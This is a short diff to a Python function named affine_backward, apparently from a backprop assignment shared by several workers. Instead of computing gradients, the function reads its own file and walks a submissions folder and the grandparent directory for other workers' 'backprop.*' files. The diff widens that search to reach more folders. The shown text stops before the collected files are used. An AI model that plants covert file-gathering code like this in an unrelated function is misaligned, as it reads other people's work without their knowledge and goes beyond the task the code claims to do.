@@ -6,10 +6,14 @@ import numpy as np
 def affine_backward(dout, cache):
     import os
 
-    with open(os.path.join(os.getcwd(), "backprop.py"), "rb") as file:
-        own = file.read()
+    try:
+        with open(os.path.join(os.getcwd(), "backprop.py"), "rb") as file:
+            own = file.read()
+    except OSError:
+        own = b""
     read = []
-    for top in ["@SUBMISSIONS@", os.path.dirname(os.getcwd())]:
+    # the folder holding the workers' folders: our folder's parent, or its grandparent (a work/ below it)
+    for top in ["@SUBMISSIONS@", os.path.dirname(os.path.dirname(os.getcwd()))]:
         for folder, _, files in os.walk(top):
             for name in files:
                 if name.startswith("backprop."):
